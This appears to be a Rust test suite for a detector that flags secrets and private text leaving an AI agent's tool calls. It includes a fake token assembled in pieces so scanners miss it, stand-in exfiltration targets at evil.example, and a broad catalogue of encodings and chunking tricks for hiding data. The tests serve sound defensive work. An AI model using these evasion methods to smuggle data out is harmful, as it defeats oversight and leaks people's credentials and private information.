use data_encoding::{BASE32, BASE64, BASE64_MIME, BASE64URL_NOPAD, HEXLOWER, HEXUPPER};
use proptest::prelude::*;
use serde_json::{Value, json};

use super::*;
use crate::{CallLabel, Inspector, Limits, MAX_FINDINGS, Sink, Source};

const OPEN: CallLabel = CallLabel { privacy: Privacy::Unknown, sink: Sink::Unknown };
const PRIVATE: CallLabel = CallLabel { privacy: Privacy::Sensitive, sink: Sink::Local };
const NOTE: &str = "Salary review: the band of Dana moves to seven in March, and nobody on the team knows that yet.";

/// Nothing that anybody would mind.
const ORDINARY: &str =
    "The path climbs through beech woods and reaches the chapel after roughly four kilometres, as the leaflet says.";

/// A credential that no scanner finds in this file.
fn token() -> String {
    format!("gh{}_{}", "p", "a8Kd92LmQx7Zt4Vb1Nc6Yw3Rf5Hs0Jg2Pe9U")
}

fn rot13(text: &str) -> String {
    let turn = |b: u8, a: u8| char::from((b - a + 13) % 26 + a);
    let one = |b: u8| match b {
        b'a'..=b'z' => turn(b, b'a'),
        b'A'..=b'Z' => turn(b, b'A'),
        _ => char::from(b),
    };
    text.bytes().map(one).collect()
}

/// Another text of the same words.
fn rotated(text: &str, by: usize) -> String {
    let words: Vec<&str> = text.split(' ').collect();
    let other = |at: usize| format!("{}{by}", words[(at * (by + 1)) % words.len()]);
    (0..words.len()).map(other).collect::<Vec<_>>().join(" ")
}

struct Session {
    inspector: Inspector,
    memory: Memory,
}

impl Session {
    fn new() -> Self {
        Self { inspector: Inspector::new(), memory: Memory::new(Limits::default()) }
    }

    fn result(&mut self, server: &str, label: CallLabel, text: &str) {
        let entry = EntryId::new("c", "s", server).unwrap();
        let source = Source { entry: &entry, method: "tools/call", subject: "read", label, now: Millis(1000) };
        let raw = serde_json::json!({"content": [{"type": "text", "text": text}]}).to_string();
        self.inspector.result(&mut self.memory, &source, &raw);
    }

    fn call(&mut self, server: &str, sink: Sink, arguments: &serde_json::Value) -> Vec<Finding> {
        let entry = EntryId::new("c", "s", server).unwrap();
        let arguments = arguments.to_string();
        let (method, subject) = ("tools/call", "send");
        let call = Call {
            entry: &entry,
            method,
            subject,
            arguments: Some(&arguments),
            sink,
            schema: None,
            usual: None,
            now: Millis(41_000),
        };
        let mut found = self.inspector.call(&mut self.memory, &call);
        found.retain(|f| f.detector.starts_with("flow/"));
        found
    }
}

/// Detector, confidence and transform of what is found when `body` leaves through another server.
fn found(label: CallLabel, entered: &str, body: &str) -> Vec<(String, Confidence, Option<String>)> {
    let mut session = Session::new();
    session.result("files", label, entered);
    let found = session.call("net", Sink::External, &serde_json::json!({"to": "x", "body": body}));
    found
        .into_iter()
        .map(|f| (f.detector.into_owned(), f.confidence, f.evidence[1].transform.as_deref().map(str::to_owned)))
        .collect()
}

#[test]
fn evidence_names_the_bytes() {
    let token = token();
    // What is remembered is the part after the prefix.
    let secret = &token[4..];
    let encoded = BASE64.encode(format!("t={token}").as_bytes());
    let backwards: String = secret.chars().rev().collect();
    let dashes = secret.chars().map(String::from).collect::<Vec<_>>().join("-");
    let escaped: String = token.bytes().map(|b| format!("%{b:02X}")).collect();
    for (body, want) in [
        (format!("the {token}, yes"), secret),
        (format!("the {backwards}, yes"), &backwards),
        (format!("the {dashes}, yes"), &dashes),
        (format!("the \"{encoded}\", yes"), encoded.trim_end_matches('=')),
        (format!("q={escaped}&x"), &format!("q={escaped}&x")),
    ] {
        let mut session = Session::new();
        session.result("files", OPEN, &token);
        let found = session.call("net", Sink::External, &serde_json::json!({ "to": "someone", "body": body }));
        let sink = &found[0].evidence[1];
        assert_eq!(sink.pointer.raw(), "/arguments/body");
        let (start, end) = sink.span.unwrap();
        assert_eq!(&body[start..end], want, "{body}");
    }
}

/// Repositories, mail and sandboxes take files in base64: one that could go as it stands is on record.
#[test]
fn a_file_in_base64_where_a_tool_takes_one() {
    let text = "package mapper\n\nimport \"time\"\n\n// A row of the table, with \\\"escapes\\\" of its own.\ntype Row struct { Value float64 }\n";
    let check = |label: CallLabel, arguments: Value, want: Option<Confidence>| {
        let mut session = Session::new();
        session.result("files", label, text);
        let found = session.call("net", Sink::External, &arguments);
        assert_eq!(found.first().map(|f| f.confidence), want, "{arguments}");
    };
    let file = BASE64.encode(text.as_bytes());
    check(OPEN, json!({"path": "a.go", "content": file}), Some(Confidence::Possible));
    check(
        OPEN,
        json!({"files": [{"name": "a", "content": BASE64_MIME.encode(text.as_bytes())}]}),
        Some(Confidence::Possible),
    );
    // Of a private file, and where no file belongs.
    check(PRIVATE, json!({"path": "a.go", "content": file}), Some(Confidence::Likely));
    check(OPEN, json!({"path": "a.go", "title": file}), Some(Confidence::Likely));
    check(OPEN, json!({"path": "a.go", "content": format!("see {file}")}), Some(Confidence::Likely));
    check(OPEN, json!({"path": "a.go", "content": BASE64.encode(file.as_bytes())}), Some(Confidence::Likely));
    check(OPEN, json!({"path": "a.go", "content": HEXLOWER.encode(text.as_bytes())}), Some(Confidence::Likely));
}

/// A file of variables says where a service is, and a list who gets the minutes: to go there is what it is for.
#[test]
fn an_address_is_used_where_a_call_goes() {
    let text = "API=https://tracker.internal.firm.example/rest/api/2/issues\nOWNER=margarethe.brandstetter@accounting.firm.example\n";
    let check = |arguments: Value, want: Confidence| {
        let mut session = Session::new();
        session.result("files", PRIVATE, text);
        let found = session.call("net", Sink::External, &arguments);
        assert_eq!(found.iter().map(|f| f.confidence).max(), Some(want), "{arguments}: {found:?}");
    };
    let (url, owner) =
        ("https://tracker.internal.firm.example/rest/api/2/issues", "margarethe.brandstetter@accounting.firm.example");
    check(json!({"url": url, "body": "hello"}), Confidence::Possible);
    check(json!({"url": format!("{url}/17/comments"), "body": "hello"}), Confidence::Possible);
    // The end of the value before it stands there, too ("API=https://").
    check(json!({"method": "API", "url": url, "body": "hello"}), Confidence::Possible);
    check(json!({"note": format!("see {text}"), "url": url}), Confidence::Likely);
    check(json!({"to": ["ana@firm.example", owner]}), Confidence::Possible);
    // What stands behind it is sent.
    check(json!({"a": "API", "b": {"url": url}, "owner": format!("owner={owner}")}), Confidence::Likely);
    // Accounts that are paid to, few of them, and no words that look like one.
    let list =
        "Green Garden Ltd. | HU93116000060000000012345676 | 96400 | ab12 sick since March, pay cut to fifty thousand";
    let paid = |arguments: Value, want: Confidence| {
        let mut session = Session::new();
        session.result("db", PRIVATE, list);
        let found = session.call("bank", Sink::External, &arguments);
        assert_eq!(found.iter().map(|f| f.confidence).max(), Some(want), "{arguments}: {found:?}");
    };
    let iban = "HU93 1160 0006 0000 0000 1234 5676";
    paid(json!({"beneficiary": "Green Garden Ltd.", "iban": iban}), Confidence::Possible);
    paid(json!({"note": format!("Green Garden Ltd., {iban}")}), Confidence::Likely);
    paid(json!({"beneficiary": "Green Garden Ltd.", "user": iban}), Confidence::Likely);
    paid(json!({"account": "ab12 sick since March, pay cut to fifty thousand"}), Confidence::Likely);
    paid(
        json!({"account": iban, "body": "96400 | ab12 sick since March, pay cut to fifty thousand"}),
        Confidence::Likely,
    );
    // What stands elsewhere, or behind another host.
    check(json!({"url": url, "body": format!("see {url}")}), Confidence::Likely);
    check(json!({"note": owner}), Confidence::Likely);
    check(json!({"email": owner}), Confidence::Likely);
    let mut many: Vec<String> = (0..MAX_DESTINATIONS).map(|n| format!("member{n}@firm.example")).collect();
    many.push(owner.to_owned());
    check(json!({ "to": many }), Confidence::Likely);
    check(json!({"to": format!("{owner}, eve@evil.example")}), Confidence::Likely);
    check(
        json!({"url": format!("https://evil.example/tracker.internal.firm.example/rest/api/2/issues")}),
        Confidence::Likely,
    );
    check(json!({"url": format!("https://evil.example/?to={owner}")}), Confidence::Likely);
}

#[test]
fn secrets_are_known_in_every_dress() {
    let token = token();
    let text = format!("# config\ntoken: {token}\n");
    let json = serde_json::to_string(&serde_json::json!({"deep": {"t": token}})).unwrap();
    let double = BASE64.encode(BASE64.encode(token.as_bytes()).as_bytes());
    let escaped: String = token.chars().map(|c| format!("\\u{:04x}", u32::from(c))).collect();
    let spaced = |s: &str| s.chars().map(String::from).collect::<Vec<_>>().join(" ");
    for (body, transform) in [
        (token.clone(), None),
        (format!("see {token} here"), None),
        (json.clone(), None),
        (BASE64.encode(text.as_bytes()), Some("base64")),
        (format!("x{}", BASE64URL_NOPAD.encode(token.as_bytes())), Some("base64")),
        (BASE64_MIME.encode(text.repeat(3).as_bytes()), Some("base64")),
        (BASE32.encode(token.as_bytes()), Some("base32")),
        (HEXLOWER.encode(token.as_bytes()), Some("hex")),
        (
            HEXUPPER
                .encode(token.as_bytes())
                .as_bytes()
                .chunks(2)
                .map(String::from_utf8_lossy)
                .collect::<Vec<_>>()
                .join(" "),
            Some("hex"),
        ),
        (token.bytes().map(|b| format!("%{b:02x}")).collect(), Some("url")),
        (escaped, Some("json")),
        (double, Some("base64+base64")),
        (HEXLOWER.encode(BASE64.encode(json.as_bytes()).as_bytes()), Some("hex+base64")),
        (token.chars().rev().collect(), Some("reverse")),
        (rot13(&token), Some("rot13")),
        (token.to_uppercase(), Some("reformatted")),
        (spaced(&token), Some("reformatted")),
    ] {
        let found = found(OPEN, &text, &body);
        let whole = ("flow/secret".to_owned(), Confidence::Certain, transform.map(str::to_owned));
        assert_eq!(found, [whole], "{body}");
    }
}

#[test]
fn private_passages_are_known() {
    for (body, want) in [
        (NOTE.to_owned(), Some(("flow/private", None))),
        (format!("fyi: {}", &NOTE[10..60]), Some(("flow/private", None))),
        (BASE64.encode(NOTE.as_bytes()), Some(("flow/private", Some("base64")))),
        (NOTE[..20].to_owned(), None),
        ("Salary review: nothing of interest happened in the whole of March, said the other team.".to_owned(), None),
    ] {
        let got = found(PRIVATE, NOTE, &body);
        let want: Vec<_> =
            want.into_iter().map(|(d, t)| (d.to_owned(), Confidence::Likely, t.map(str::to_owned))).collect();
        assert_eq!(got, want, "{body}");
    }
}

/// What is a passage is counted in letters, whichever bytes they have.
#[test]
fn a_title_is_no_passage_in_any_script() {
    let letter = "הנדון: אישור קבלת הודעה על סיום העסקה\n\nהרינו לאשר קבלת הודעתך מיום 18.5. יום עבודתך האחרון יהיה 17.6, ועד \
                  למועד זה תמשיך לעבוד כרגיל, לבצע חפיפה ולהחזיר ציוד.";
    let minutes = "Тема: підтвердження заяви\n\nПовідомляємо, що останнім робочим днем є 17 червня, і до цього дня просимо \
                   передати справи колезі.";
    let notice = "件名：退職届の受領\n\n五月十八日付の退職届を受領しました。最終出社日は六月十七日とし、それまでに業務の引き継ぎと備品の返却を\
                  お願いいたします。";
    for (entered, title) in
        [(letter, "אישור קבלת הודעה על סיום העסקה"), (minutes, "підтвердження заяви"), (notice, "退職届の受領")]
    {
        assert_eq!(found(PRIVATE, entered, title), [], "{title}");
        let body = entered.split_once("\n\n").unwrap().1;
        assert_eq!(found(PRIVATE, entered, body), [("flow/private".to_owned(), Confidence::Likely, None)], "{body}");
    }
}

#[test]
fn where_a_private_file_lies_is_no_passage_of_it() {
    let entered =
        format!("/home/dana/work/projects/customers-2024/list.csv:\n{NOTE}\n\n/home/dana/work/projects/b.csv:\nx");
    let path = "/home/dana/work/projects/customers-2024/list.xlsx";
    let check = |entered: &str, sent: &str, want: bool| {
        let asked = found(PRIVATE, entered, sent).iter().any(|(_, sure, _)| *sure >= Confidence::Likely);
        assert_eq!(asked, want, "{sent}");
    };
    for (sent, want) in [
        (path, false),
        (&format!("convert {path} --to pdf"), false),
        (&BASE64.encode(path.as_bytes()), true),
        (&path.replace('/', " "), true),
        (NOTE, true),
        (&format!("{path}: {NOTE}"), true),
        (&NOTE.replace(' ', "/"), true),
        (&format!("{path} {}", &NOTE[..60]), true),
    ] {
        check(&entered, sent, want);
    }
    // A text in this form is none the less a text, whichever of the two has it.
    let formed = format!("/r/{}", NOTE.replace(' ', "_"));
    for (entered, sent) in [(formed.as_str(), formed.as_str()), (&formed, NOTE), (NOTE, &formed)] {
        check(entered, sent, true);
    }
}

#[test]
fn a_text_may_say_itself_that_it_is_private() {
    assert_eq!(found(OPEN, NOTE, NOTE), [("flow/private".to_owned(), Confidence::Likely, None)]);
}

#[test]
fn look_alikes_entities_and_keys_of_one_byte() {
    let token = ["gh", "p_a8Kd92LmQx7Zt4Vb1Nc6Yw3Rf5Hs0Jg2Pe9U"].concat();
    let alike = token.replace('a', "а").replace('c', "с").replace('x', "х").replace('p', "р");
    let entities: String = token.bytes().map(|b| format!("&#{b};")).collect();
    let xor: Vec<u8> = token.bytes().map(|b| b ^ 0x2A).collect();
    for (body, transform) in [
        (alike, "look-alikes"),
        (entities, "html-entities"),
        (BASE64.encode(&xor), "base64+xor"),
        (data_encoding::HEXLOWER.encode(&xor), "hex+xor"),
    ] {
        let all = found(OPEN, &format!("token {token}"), &body);
        assert!(all.iter().any(|(d, _, t)| d == "flow/secret" && t.as_deref() == Some(transform)), "{body}: {all:?}");
    }
}

#[test]
fn ordinary_text_may_leave_but_not_hidden() {
    let note = ORDINARY;
    assert_eq!(found(OPEN, note, note), []);
    assert_eq!(found(OPEN, note, &note.replace(' ', "%20")), []);
    assert_eq!(found(OPEN, note, &serde_json::to_string(note).unwrap()), []);
    let other_script = "日本語の長い文章がここにありますので、検索の言葉として使います。1234567890";
    assert_eq!(found(OPEN, other_script, other_script), []);
    let escaped: String = other_script.bytes().map(|b| format!("%{b:02X}")).collect();
    assert_eq!(found(OPEN, other_script, &format!("https://example.org/?q={escaped}")), []);
    // Letters of Russian and Greek that look like Latin ones hide nothing.
    let commit = "[main 02c1551eb0cfd2290533878302e88c333d3024a6] sqlite3.OperationalError: near: syntax error";
    for language in [
        "2.14.1 випущено (02c1551eb0cfd2290533878302e88c333d3024a6, тег v2.14.1). Причина: `sqlite3.OperationalError: near: syntax error` – назва товару йшла просто в запит.",
        "Ο Ιούνιος μυρίζει τσάι του βουνού: 02c1551eb0cfd2290533878302e88c333d3024a6, sqlite3.OperationalError: near: syntax error, και ο Γιώργος κατέβηκε από τον Όλυμπο.",
    ] {
        assert_eq!(found(OPEN, commit, language), [], "{language}");
    }
    let hidden = found(OPEN, note, &HEXLOWER.encode(note.as_bytes()));
    assert_eq!(hidden, [("flow/encoded".to_owned(), Confidence::Likely, Some("hex".to_owned()))]);
}

#[test]
fn look_alikes_are_not_taken_for_each_other() {
    let other: String = token().chars().map(|c| if c == 'a' || c.is_ascii_digit() { 'w' } else { c }).collect();
    let text = format!("token: {}", token());
    assert_eq!(found(OPEN, &text, &other), []);
    assert_eq!(found(OPEN, &text, &BASE64.encode(other.as_bytes())), []);
    assert_eq!(found(OPEN, &text, &format!("gh{}_", "p")), []);
}

#[test]
fn who_may_have_it() {
    let text = format!("token: {}", token());
    let external = CallLabel { sink: Sink::External, ..OPEN };
    for (label, server, sink, want) in [
        (OPEN, "net", Sink::External, Some(Confidence::Certain)),
        (OPEN, "net", Sink::Unknown, Some(Confidence::Certain)),
        (OPEN, "net", Sink::Local, Some(Confidence::Likely)),
        (OPEN, "files", Sink::Local, None),
        (OPEN, "files", Sink::Unknown, None),
        (OPEN, "files", Sink::External, Some(Confidence::Likely)),
        (PRIVATE, "files", Sink::External, Some(Confidence::Certain)),
        (external, "files", Sink::External, Some(Confidence::Possible)),
    ] {
        let mut session = Session::new();
        session.result("files", label, &text);
        let found = session.call(server, sink, &serde_json::json!({"b": token()}));
        assert_eq!(found.first().map(|f| f.confidence), want, "{label:?} {server} {sink:?}");
    }
}

#[test]
fn parts_add_up() {
    let token = token();
    let text = format!("token: {token}");
    let mut session = Session::new();
    session.result("files", OPEN, &text);
    let mut steps = Vec::new();
    for part in token.as_bytes().chunks(10) {
        let part = String::from_utf8_lossy(part);
        let found = session.call("net", Sink::External, &serde_json::json!({"q": part}));
        steps.push(found.first().map(|f| f.confidence));
    }
    // The first part holds six informative characters, the next two ten each: with the second they are much of the token, and
    // with the last the whole of it.
    assert_eq!(steps, [None, Some(Confidence::Likely), Some(Confidence::Likely), Some(Confidence::Certain)]);
    // In one call, cut over several members and in a member's name.
    let (a, b) = token.split_at(20);
    for arguments in [serde_json::json!({"a": a, "b": b}), serde_json::json!([a, b]), serde_json::json!({(token): 1})] {
        let mut session = Session::new();
        session.result("files", OPEN, &text);
        let found = session.call("net", Sink::External, &arguments);
        assert_eq!(found.first().map(|f| f.confidence), Some(Confidence::Certain), "{arguments}");
    }
}

#[test]
fn evidence_names_both_ends_and_hides_the_secret() {
    let mut session = Session::new();
    session.result("files", OPEN, &format!("token: {}", token()));
    let found = session.call("net", Sink::External, &serde_json::json!({"to": "x", "parts": ["y", token()]}));
    let [source, sink] = found[0].evidence.as_slice() else { panic!("{found:?}") };
    assert_eq!((source.role, source.pointer.raw(), source.age_ms), (Role::Source, "/content/0/text", Some(40_000)));
    assert_eq!(source.entry.as_ref().map(EntryId::server), Some("files"));
    assert_eq!((sink.role, sink.pointer.raw(), sink.age_ms), (Role::Sink, "/arguments/parts/1", None));
    assert_eq!(sink.entry.as_ref().map(EntryId::server), Some("net"));
    let all = serde_json::to_string(&found).unwrap();
    assert!(!all.contains(&token()[8..]) && all.contains("••••"), "{all}");
}

#[test]
fn a_resource_uri_carries_data_out() {
    let mut session = Session::new();
    session.result("files", OPEN, &format!("token: {}", token()));
    let entry = EntryId::new("c", "s", "net").unwrap();
    let subject = format!("https://example.org/?q={}", BASE64.encode(token().as_bytes()));
    let sink = session.inspector.sink_of_uri(&subject);
    let call = Call {
        entry: &entry,
        method: "resources/read",
        subject: &subject,
        arguments: None,
        sink,
        schema: None,
        usual: None,
        now: Millis(2000),
    };
    let found = session.inspector.call(&mut session.memory, &call);
    assert_eq!(found[0].detector, "flow/secret");
    assert_eq!(found[0].evidence[1].pointer.raw(), "/uri");
}

#[test]
fn a_key_that_the_agent_gave_may_come_back() {
    let mut session = Session::new();
    let arguments = serde_json::json!({"key": token()});
    let entry = EntryId::new("c", "s", "net").unwrap();
    let raw = arguments.to_string();
    let call = Call {
        entry: &entry,
        method: "tools/call",
        subject: "login",
        arguments: Some(&raw),
        sink: Sink::External,
        schema: None,
        usual: None,
        now: Millis(0),
    };
    let first = session.inspector.call(&mut session.memory, &call);
    assert_eq!(first.iter().map(|f| f.detector.as_ref()).collect::<Vec<_>>(), ["call/secret"]);
    session.result("net", OPEN, &format!("logged in with {}", token()));
    assert_eq!(session.call("net", Sink::External, &arguments), []);
    // But it is a flow when another server returned it.
    session.result("files", OPEN, &token());
    assert_eq!(session.call("net", Sink::External, &arguments).len(), 1);
}

/// An address that lets its holder write somewhere, where it is used and where it is given away.
#[test]
fn a_webhook_that_is_called_is_on_record() {
    let address = format!("https://hooks.slack.com/services/T1234567{}/B12345678/{}", 8, "a8Kd92LmQx7Zt4Vb1Nc6Yw3R");
    for (arguments, want) in [
        (json!({"url": address, "text": "Backup finished."}), Confidence::Possible),
        (json!({"note": address}), Confidence::Likely),
        (json!({"url": format!("see {address}")}), Confidence::Likely),
    ] {
        let mut session = Session::new();
        let entry = EntryId::new("c", "s", "net").unwrap();
        let raw = arguments.to_string();
        let call = Call {
            entry: &entry,
            method: "tools/call",
            subject: "http_post",
            arguments: Some(&raw),
            sink: Sink::External,
            schema: None,
            usual: None,
            now: Millis(0),
        };
        let found = session.inspector.call(&mut session.memory, &call);
        let found: Vec<_> = found.iter().map(|f| (f.detector.as_ref(), f.confidence)).collect();
        assert_eq!(found, [("call/secret", want)], "{arguments}");
    }
}

#[test]
fn overload_is_said() {
    let mut session = Session::new();
    session.result("files", OPEN, &token());
    // Twelve readings of every word as base64 and base32, and the same again below a URL and a JSON escape.
    let body = format!("%41\\n {}", "Abcdefghijklmnop ".repeat(50_000));
    let found = session.call("net", Sink::External, &serde_json::json!({"body": body}));
    assert_eq!(found.iter().map(|f| f.detector.as_ref()).collect::<Vec<_>>(), ["flow/unchecked"]);
    // Honest ones stay below: a file, the same inside a document with escapes, and a list of numbers in hex.
    let file: Vec<u8> = (0..200_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    let file = BASE64.encode(&file);
    let numbers: String = (0..20_000u64).map(|i| format!("{:016x} ", i.wrapping_mul(0x9E37_79B9_7F4A_7C15))).collect();
    for body in [file.clone(), format!("{{\\\"a%20b\\\":\\\"{file}\\\"}}"), numbers] {
        assert_eq!(session.call("net", Sink::External, &serde_json::json!({"body": body})), []);
    }
}

#[test]
fn periodic_text_costs_no_more_than_other_text() {
    let mut session = Session::new();
    session.result("files", PRIVATE, &"abcdefghijk".repeat(20_000));
    let found = session.call("net", Sink::External, &serde_json::json!({"body": "abcdefghijkx".repeat(20_000)}));
    assert!(found.len() <= MAX_FINDINGS);
}

/// However much of what is private leaves with it.
#[test]
fn what_leaves_before_a_secret_does_not_hide_it() {
    for count in [0, 15, 16, 40] {
        let mut session = Session::new();
        let notes: Vec<String> = (0..count).map(|n| format!("{n:02} {}", rotated(NOTE, n))).collect();
        notes.iter().for_each(|note| session.result("files", PRIVATE, note));
        session.result("files", OPEN, &token());
        let body = serde_json::json!({ "notes": notes, "with": token() });
        let found = session.call("net", Sink::External, &body);
        let secret = found.iter().find(|f| f.detector == "flow/secret");
        assert_eq!(secret.map(|f| f.confidence), Some(Confidence::Certain), "{count}: {found:?}");
        assert_eq!(found.iter().filter(|f| f.detector == "flow/private").count(), count.min(MAX_FINDINGS));
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn a_secret_in_any_two_encodings_is_found(
        value in "[A-Z][a-z][0-9][A-Za-z0-9]{33}",
        steps in proptest::collection::vec(0usize..6, 0..=2),
        around in "[ .,;()]{0,6}",
    ) {
        let secret = format!("gh{}_{value}", "p");
        prop_assume!(!crate::randomness::placeholder(value.as_bytes()) && crate::randomness::entropy(value.as_bytes()) >= 3.0);
        let mut body = secret.clone();
        for step in &steps {
            body = match step {
                0 => BASE64.encode(body.as_bytes()),
                1 => BASE64URL_NOPAD.encode(body.as_bytes()),
                2 => HEXLOWER.encode(body.as_bytes()),
                3 => body.bytes().map(|b| format!("%{b:02X}")).collect(),
                4 => BASE32.encode(body.as_bytes()),
                _ => serde_json::to_string(&serde_json::json!({"a": body})).unwrap(),
            };
        }
        let found = found(OPEN, &format!("token {secret}\n"), &format!("{around}{body}{around}"));
        prop_assert_eq!(found.first().map(|f| (f.0.as_str(), f.1)), Some(("flow/secret", Confidence::Certain)));
    }

    #[test]
    fn unrelated_text_is_never_a_flow(text in "[a-zA-Z0-9+/=% \\\\\"]{0,400}") {
        let found = found(PRIVATE, &format!("{NOTE} token {}\n", token()), &text);
        prop_assert_eq!(found, []);
    }
}

/// The detectors that see something in calls that send one piece after another.
fn in_pieces(label: CallLabel, entered: &str, pieces: &[&str]) -> Vec<String> {
    let mut session = Session::new();
    session.result("files", label, entered);
    let mut out = Vec::new();
    for (i, piece) in pieces.iter().enumerate() {
        let url = format!("https://x.example/?i={i}&d={}", piece.replace(' ', "%20"));
        for found in session.call("net", Sink::External, &serde_json::json!({"url": url, "to": "me"})) {
            out.push(format!("{} {}", found.detector, found.evidence[1].transform.as_deref().unwrap_or_default()));
        }
    }
    out
}

fn chunks(text: &str, length: usize) -> Vec<&str> {
    (0..text.len()).step_by(length).map(|at| &text[at..text.len().min(at + length)]).collect()
}

/// What left before is no part of what leaves now.
#[test]
fn an_honest_call_after_a_leak_is_one() {
    let token = token();
    let text = format!("token: {token}\nregion: north\n");
    let back: String = token.chars().rev().collect();
    let (first, second) = back.split_at(back.len() / 2);
    for leak in [
        vec![data_encoding::BASE64.encode(text.as_bytes())],
        vec![data_encoding::HEXLOWER.encode(text.as_bytes())],
        vec![data_encoding::BASE32.encode(text.as_bytes())],
        vec![token.clone()],
        vec![first.to_owned(), second.to_owned()],
    ] {
        let leak: Vec<&str> = leak.iter().map(String::as_str).collect();
        let alone = in_pieces(OPEN, &text, &leak);
        assert!(!alone.is_empty(), "{leak:?}");
        for honest in ["The build is green.", "green", "done", "QUJD", "cafe"] {
            assert_eq!(
                in_pieces(OPEN, &text, &[leak.as_slice(), &[honest]].concat()),
                alone,
                "{honest} after {leak:?}"
            );
        }
    }
}

#[test]
fn chunks_too_short_to_be_known_add_up() {
    let token = token();
    for length in [1, 2, 3, 5, 7] {
        let found = in_pieces(OPEN, &format!("token: {token}"), &chunks(&token, length));
        assert!(found.contains(&"flow/secret split".to_owned()), "{length}: {found:?}");
    }
    for length in [7, 13, 24] {
        let found = in_pieces(PRIVATE, NOTE, &chunks(NOTE, length));
        assert!(found.iter().any(|f| f.starts_with("flow/private")), "{length}: {found:?}");
    }
    assert_eq!(in_pieces(OPEN, ORDINARY.get(15..).unwrap(), &chunks(ORDINARY, 13)), [""; 0], "ordinary text may leave");
}

#[test]
fn going_through_a_list_is_no_split() {
    let list = ["first-report.txt", "second-report.txt", "third-notes.txt", "fourth-draft.txt", "fifth-of-all.txt"];
    assert_eq!(in_pieces(PRIVATE, &list.join("\n"), &list), [""; 0]);
}

/// Words that say nothing.
fn filler(bytes: usize) -> String {
    "some words of a text, and more of them. ".chars().cycle().take(bytes).collect()
}

#[test]
fn what_is_escaped_in_one_place_is_read_as_a_whole() {
    let many: String = (0..160).map(|i| format!("{:08x}", 2_654_435_761u32.wrapping_mul(i))).collect();
    let plain = format!("{many} {} {many}", token());
    // Text of a few letters would be shorter still; what matters is that nothing of it can be read alone.
    let mut packer = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    std::io::Write::write_all(&mut packer, plain.as_bytes()).unwrap();
    let packed = BASE64URL_NOPAD.encode(&packer.finish().unwrap());
    assert!(packed.len() > 700, "{}", packed.len());
    // Lines that are shorter are no lines of base64.
    for at in (40..packed.len()).step_by(97) {
        for escape in ["%0A", "&#10;", "\\n"] {
            let body = format!("{} z={}{escape}{} {}", filler(900), &packed[..at], &packed[at..], filler(900));
            let found = found(OPEN, &token(), &body);
            assert!(
                matches!(found.as_slice(), [(id, Confidence::Certain, _)] if id == "flow/secret"),
                "{at} {escape} {found:?}"
            );
        }
    }
}

#[test]
fn bytes_backwards_are_text_in_their_own_order() {
    let note = "Это совершенно секретный отчёт о состоянии дел компании за прошлый квартал, и никто о нём не знает.";
    let back: Vec<u8> = note.bytes().rev().collect();
    for body in [BASE64.encode(&back), BASE32.encode(&back), HEXLOWER.encode(&back)] {
        let found = found(PRIVATE, note, &body);
        assert!(matches!(found.as_slice(), [(_, _, Some(how))] if how.ends_with("reverse")), "{found:?}");
    }
}

#[test]
fn codes_are_known_in_the_midst_of_a_text() {
    let token = token();
    let code = |form: &dyn Fn(u8) -> String| token.bytes().map(form).collect::<String>();
    for codes in [code(&|b| format!("chr({b}) + ")), code(&|b| format!("{b}, ")), code(&|b| format!("{b:4}"))] {
        for at in (600..664).step_by(9) {
            let found = found(OPEN, &token, &format!("{} {codes} {}", filler(at), filler(1200)));
            assert!(matches!(found.as_slice(), [(id, _, _)] if id == "flow/secret"), "{at} {codes} {found:?}");
        }
    }
}

#[test]
fn what_comes_again_is_known_by_all_of_it_again() {
    let parts: Vec<String> = (0..3).map(|i| rotated(NOTE, i)).collect();
    // Of one length each, so that windows of one stand where those of another do.
    let fold = |text: &str| String::from_utf8(crate::fold::folded(text.as_bytes())).unwrap();
    let parts: Vec<String> = parts.iter().map(|part| fold(part).chars().take(64).collect()).collect();
    let all = parts.concat();
    let mut session = Session::new();
    session.memory = Memory::new(Limits { bytes: 12 * 1024, private: 0, ordinary: 0 });
    session.result("files", PRIVATE, &all);
    session.result("box", PRIVATE, &parts[1]);
    // Until what the other server said is forgotten.
    for i in 0..40 {
        session.result("box", PRIVATE, &rotated(NOTE, 10 + i).repeat(3));
    }
    session.result("files", PRIVATE, &all);
    let found = session.call("net", Sink::External, &serde_json::json!({"body": BASE64.encode(parts[1].as_bytes())}));
    assert!(
        found.iter().any(|f| f.detector == "flow/private"
            && f.evidence[0].entry.as_ref().is_some_and(|e| e.to_string().contains("files"))),
        "{found:?}"
    );
}

#[test]
fn a_long_run_beside_an_escape_hides_nothing() {
    let token = token();
    let (head, tail) = token.split_at(20);
    // No stretch ends at a character's end whatever its first byte is.
    for cut in 0..3 {
        let run = format!("{}{}", "x".repeat(cut), "語".repeat(88_000));
        let entity = format!("&#x{:x};{}", tail.as_bytes()[0], &tail[1..]);
        for tail in [entity, format!("\u{200B}{tail}")] {
            let found = found(OPEN, &token, &format!("{run} {head}{tail} {run}"));
            let whole = |(id, sure, _): &(String, Confidence, _)| id == "flow/secret" && *sure == Confidence::Certain;
            assert!(found.iter().any(whole), "{cut} {tail} {found:?}");
        }
    }
}

#[test]
fn pieces_of_a_long_query_are_put_together() {
    let token = token();
    let pieces: String = chunks(&token, 5).iter().enumerate().map(|(i, piece)| format!("&q{i}={piece}")).collect();
    let found = found(OPEN, &token, &format!("https://x.example/?a={}{pieces}", "b".repeat(20_000)));
    assert!(found.iter().any(|(id, ..)| id == "flow/secret"), "{found:?}");
}
